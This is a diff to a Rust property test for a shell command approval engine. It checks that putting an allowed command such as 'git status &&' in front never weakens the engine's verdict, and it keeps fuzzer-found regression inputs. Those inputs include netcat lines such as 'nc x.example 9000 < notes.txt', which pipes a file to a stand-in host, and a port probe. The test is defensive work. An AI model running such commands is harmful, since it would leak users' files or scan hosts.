@@ -72,6 +72,87 @@ fn shellish() -> impl Strategy<Value = String> {
     ]
 }
 
+/// The property's check of one `X`: `ALLOWED && X` (and the `;` and
+/// newline forms) is never weaker than `X` alone, in every mode.
+fn never_weaker(x: &str) -> Result<(), TestCaseError> {
+    for (mode, engine) in engines() {
+        let alone = common::run_command(engine, x);
+        // `ALLOWED && X` is the property as specified. The `;` and newline
+        // forms are checked too, except for an X that is empty or only a
+        // comment: alone it asks (nothing to approve), while `git status; `
+        // is just `git status`.
+        let no_op = ShellCommand::parse(x).hazards().contains(&Hazard::Empty);
+        let prefixes: &[&str] = if no_op {
+            &["git status && "]
+        } else {
+            &["git status && ", "git status; ", "ls -la\n"]
+        };
+        for prefix in prefixes {
+            let text = format!("{prefix}{x}");
+            let joined = common::run_command(engine, &text);
+            let unreadable = ShellCommand::parse(&text)
+                .hazards()
+                .contains(&Hazard::Syntax);
+            if (joined.reason.level == Level::Limits || unreadable) && alone.action != Action::Run {
+                // The joined text cannot be read as surely as X alone
+                // (the parser recovers differently): the engine says so
+                // and asks (blocks in headless mode) instead of applying
+                // a rule it cannot be sure of. It never runs.
+                prop_assert_ne!(
+                    joined.action,
+                    Action::Run,
+                    "{:?}: `{}` {:?} vs {:?}",
+                    mode,
+                    text,
+                    joined,
+                    alone
+                );
+                if *mode == ApprovalMode::Headless {
+                    prop_assert_eq!(joined.action, Action::Block, "`{}` {:?}", text, joined);
+                }
+                continue;
+            }
+            if alone.reason.rule.as_deref() == Some("limits/unparsed-text")
+                && !unreadable
+                && joined.reason.level != Level::Limits
+            {
+                // The converse: the parser recovers on the joined text
+                // and not on X alone (`\ && X=1` fails alone, parses
+                // after `ls -la` and a newline). X alone asks only for
+                // being unreadable, and the joined text, being readable,
+                // was analysed in full; there is no rule to compare.
+                continue;
+            }
+            prop_assert!(
+                rank(joined.action) >= rank(alone.action),
+                "{mode:?}: `{prefix}{x}` -> {joined:?} is weaker than `{x}` -> {alone:?}"
+            );
+            prop_assert!(
+                joined.policy >= alone.policy,
+                "{mode:?}: `{prefix}{x}` {joined:?} vs {alone:?}"
+            );
+        }
+    }
+    Ok(())
+}
+
+/// Inputs the property found, kept as literal cases: each exposed a cause
+/// that was fixed, not a symptom.
+#[test]
+fn inputs_the_property_found_stay_never_weaker() {
+    for x in [
+        // A redirection after a list fed the first command, not `nc`.
+        "nc<*",
+        "nc x.example 9000 < notes.txt",
+        // The grammar reads `a | b | c && d` as a pipeline ending in a
+        // list: `nc` seemed to read the pipe alone, not behind `&&`.
+        "\u{e9}\\;\u{fffc}=a|=a|\u{e9}\\<-c&&nc",
+        "git log | sort | uniq -c && nc -z localhost 22",
+    ] {
+        never_weaker(x).unwrap();
+    }
+}
+
 proptest! {
     // `PROPTEST_CASES` raises the count for a long local run.
         #![proptest_config(ProptestConfig {
@@ -88,47 +169,7 @@ proptest! {
 
     #[test]
     fn allowed_and_x_is_never_weaker_than_x(x in shellish()) {
-        for (mode, engine) in engines() {
-            let alone = common::run_command(engine, &x);
-            // `ALLOWED && X` is the property as specified. The `;` and newline
-            // forms are checked too, except for an X that is empty or only a
-            // comment: alone it asks (nothing to approve), while `git status; `
-            // is just `git status`.
-            let no_op = ShellCommand::parse(&x).hazards().contains(&Hazard::Empty);
-            let prefixes: &[&str] = if no_op { &["git status && "] } else { &["git status && ", "git status; ", "ls -la\n"] };
-            for prefix in prefixes {
-                let text = format!("{prefix}{x}");
-                let joined = common::run_command(engine, &text);
-                let unreadable = ShellCommand::parse(&text).hazards().contains(&Hazard::Syntax);
-                if (joined.reason.level == Level::Limits || unreadable) && alone.action != Action::Run {
-                    // The joined text cannot be read as surely as X alone
-                    // (the parser recovers differently): the engine says so
-                    // and asks (blocks in headless mode) instead of applying
-                    // a rule it cannot be sure of. It never runs.
-                    prop_assert_ne!(joined.action, Action::Run, "{:?}: `{}` {:?} vs {:?}", mode, text, joined, alone);
-                    if *mode == ApprovalMode::Headless {
-                        prop_assert_eq!(joined.action, Action::Block, "`{}` {:?}", text, joined);
-                    }
-                    continue;
-                }
-                if alone.reason.rule.as_deref() == Some("limits/unparsed-text")
-                    && !unreadable
-                    && joined.reason.level != Level::Limits
-                {
-                    // The converse: the parser recovers on the joined text
-                    // and not on X alone (`\ && X=1` fails alone, parses
-                    // after `ls -la` and a newline). X alone asks only for
-                    // being unreadable, and the joined text, being readable,
-                    // was analysed in full; there is no rule to compare.
-                    continue;
-                }
-                prop_assert!(
-                    rank(joined.action) >= rank(alone.action),
-                    "{mode:?}: `{prefix}{x}` -> {joined:?} is weaker than `{x}` -> {alone:?}"
-                );
-                prop_assert!(joined.policy >= alone.policy, "{mode:?}: `{prefix}{x}` {joined:?} vs {alone:?}");
-            }
-        }
+        never_weaker(&x)?;
     }
 
     #[test]
